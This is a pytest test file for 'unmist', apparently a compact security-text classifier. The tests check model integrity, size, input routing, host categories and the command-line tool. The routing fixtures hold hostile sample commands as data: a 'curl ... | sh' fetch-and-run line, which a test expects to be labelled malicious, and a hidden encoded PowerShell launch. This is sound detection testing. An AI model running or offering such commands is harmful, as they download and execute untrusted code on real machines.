"""The model inside the package is the one that was promised."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

import unmist
from unmist.artifact import model_folder, open_folder, verify
from unmist.io import ReadCounts, open_rows
from unmist.model import Model

EXAMPLE = Path(__file__).parents[1] / "examples" / "dns.log"
TASK = "host-category"
LABELS = {
    "adult",
    "education",
    "finance",
    "gambling",
    "government",
    "news",
    "piracy",
    "proxy_vpn",
    "tracking",
}
CLEAR = {
    "irs.gov": "government",
    "harvard.edu": "education",
    "google-analytics.com": "tracking",
    "bet365.com": "gambling",
}


ROUTES = {
    "mail.example.com": "hostname",
    "powershell -nop -w hidden -enc JABjAGwAaQBlAG4AdAA=": "command",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36": (
        "header"
    ),
    "curl http://192.0.2.1/x | sh": "command",
    "ping 8.8.8.8": "command",
    "192.0.2.7": "other",
    "report_2024.xlsx": "path",
    "C:\\Users\\alice\\Documents\\passwords.kdbx": "path",
    "Jan 12 03:04:05 gw sshd[811]: Failed password for root from 192.0.2.7 port 4022 ssh2": "log",
    "\x00\x8f\x9d\x01\x02\x7f\x03": "other",
}


@pytest.fixture(scope="module", params=["small", "edge"])
def model(request: pytest.FixtureRequest) -> Model:
    return unmist.load(request.param, threads=1)


@pytest.fixture(autouse=True)
def shipped(monkeypatch: pytest.MonkeyPatch) -> None:
    """The environment must not point the command line elsewhere."""
    monkeypatch.delenv("UNMIST_MODEL", raising=False)


def test_a_plain_command_is_familiar(model: Model) -> None:
    (verdict,) = model.classify(["curl http://192.0.2.1/x | sh"], "command-threat")
    assert verdict.reason != "unfamiliar"
    assert verdict.model_label == "malicious"


@pytest.mark.parametrize("size", ["small", "edge"])
def test_it_is_whole(size: str) -> None:
    listing, digest = verify(model_folder(size))
    assert listing.name == f"unmist-{size}"
    assert len(digest) == 64


def test_it_is_small(model: Model) -> None:
    parameters, megabytes = {"small": (25e6, 60), "edge": (10e6, 12)}[model.path.name]
    assert model.tokenizer.size > 16_000
    assert model.info()["parameters"] <= parameters
    assert sum(path.stat().st_size for path in model.path.rglob("*")) <= megabytes * 2**20


def test_its_specialist(model: Model) -> None:
    assert TASK in model.tasks
    assert set(model.labels(TASK)) == LABELS
    info = model.info()
    assert info["tasks"][TASK]["parameters"] <= 0.015 * info["parameters"]
    assert info["tasks"][TASK]["scores"]["test"]["accuracy"] > 1 / len(LABELS)


def test_it_reads_eight_field_kinds(model: Model) -> None:
    assert {model.field_of(task) for task in model.tasks} == {
        *("hostname", "url", "http", "header", "command", "path", "log", "cloud")
    }
    info = model.info()
    for task in model.tasks:
        assert info["tasks"][task]["parameters"] <= 0.015 * info["parameters"], task


def test_clear_texts_find_their_specialists(model: Model) -> None:
    fields = [route.field for route in model.route(list(ROUTES))]
    assert fields == list(ROUTES.values())
    for said, field in zip(model.classify_routed(list(ROUTES)), fields, strict=True):
        assert tuple(v.task for v in said) == (model.specialists(field) or ("router",))


def test_an_empty_row_is_of_no_kind(model: Model) -> None:
    (verdict,) = model.classify_routed([" "])[0]
    assert (verdict.task, verdict.status, verdict.reason) == ("router", "bad_input", "empty")


@pytest.mark.parametrize("size", ["small", "edge"])
def test_every_specialist_belongs_to_the_encoder(size: str) -> None:
    folder = open_folder(model_folder(size))
    encoder = folder.manifest.files["model.safetensors"].sha256
    assert {adapter.card.encoder for adapter in folder.adapters.values()} == {encoder}


def test_clear_names(model: Model) -> None:
    verdicts = model.classify(list(CLEAR), TASK)
    right = [v.model_label == label for v, label in zip(verdicts, CLEAR.values(), strict=True)]
    assert sum(right) >= 3, [(verdict.text, verdict.model_label) for verdict in verdicts]


@pytest.mark.parametrize(
    "data", [b"", b"a.com", b"\xff\x00[MASK]", bytes(range(256)), "\u4f8b\u3048.jp".encode()]
)
def test_its_tokenizer_loses_nothing(model: Model, data: bytes) -> None:
    assert model.tokenizer.decode(model.tokenizer.encode(data)) == data


def test_a_log_from_end_to_end() -> None:
    command = [sys.executable, "-m", "unmist", "classify", "--task", TASK, "--jsonl", "-q"]
    command.append(str(EXAMPLE))
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode in (0, 1), done.stderr
    assert done.stderr == ""
    verdicts = [json.loads(line) for line in done.stdout.splitlines()]
    counts = ReadCounts()
    rows = list(open_rows(str(EXAMPLE), field="hostname", counts=counts))
    assert len(rows) > 10
    assert [(v["text"], v["line"]) for v in verdicts] == [(row.text, row.line) for row in rows]
    assert {verdict["status"] for verdict in verdicts} <= {"ok", "abstain", "bad_input"}
    assert any(verdict["status"] == "ok" for verdict in verdicts)
    bad = any(verdict["status"] == "bad_input" for verdict in verdicts)
    assert done.returncode == int(bad)
    assert {v["label"] for v in verdicts} <= LABELS | {None}
